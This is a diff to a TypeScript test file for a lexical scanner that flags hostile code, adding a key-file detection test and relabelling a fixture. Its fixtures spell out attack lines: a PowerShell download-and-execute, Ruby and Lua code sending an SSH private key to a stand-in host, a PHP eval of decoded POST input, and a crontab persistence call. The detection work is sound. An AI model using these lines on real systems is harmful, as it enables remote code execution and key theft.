@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { Language } from '../../types/index.ts';
-import { LEXICAL_LIMITS, scanLexically, WEIGHT_MIN } from './lexical.scan.ts';
+import { findKeyFiles, LEXICAL_LIMITS, scanLexically, WEIGHT_MIN } from './lexical.scan.ts';
 
 const linesOf = (
   text: string,
@@ -12,7 +12,7 @@ const linesOf = (
 describe('the lexical scanner', () => {
   it.each<readonly [Language, string, string]>([
     ['powershell', 'iwr https://cdn.example.net/a.ps1 | iex', 'evaluation'],
-    ['ruby', "Net::HTTP.post(URI('https://in.example.net'), File.read('/home/me/.ssh/id_rsa'))", 'credential'],
+    ['ruby', "Net::HTTP.post(URI('https://in.example.net'), File.read('/home/me/.ssh/id_rsa'))", 'key file'],
     ['php', "eval(base64_decode($_POST['k']));", 'decoding'],
     ['go', 'exec.Command("sh", "-c", r.FormValue("c"))', 'execution'],
     ['perl', 'system("crontab /tmp/jobs");', 'persistence'],
@@ -60,6 +60,26 @@ describe('the lexical scanner', () => {
     const [hint] = scanLexically(text, 'lua', WEIGHT_MIN.lexical);
 
     expect(text.slice(hint?.stretch.start, hint?.stretch.end)).toBe(text.trimEnd());
+  });
+
+  it('finds files of keys however far from what sends', () => {
+    const text = `k = read("~/.ssh/id_rsa")\n${'x = 1\n'.repeat(60)}`;
+
+    expect(findKeyFiles(`${text}http.post(k)\n`, 'lua')).toEqual([{ start: 0, end: 25 }]);
+    expect(findKeyFiles(text, 'lua')).toEqual([]);
+  });
+
+  it('names places apart before a second one beside the first', () => {
+    const line = 'system("curl https://in.example.net")\n';
+    const text = `${line.repeat(30)}${'x = 1\n'.repeat(30)}${line}`;
+
+    expect(linesOf(text, 'perl').map(([at]) => at)).toContain(61);
+  });
+
+  it('reads comments where nothing else is', () => {
+    const text = '# /// script\n# dependencies = ["a @ https://in.example.net/a.tgz"]\nprint(1)\n';
+
+    expect(scanLexically(text, 'python', WEIGHT_MIN.only, true)[0]?.roles).toContain('address');
   });
 
   it('knows addresses of machines, mailboxes and payments', () => {
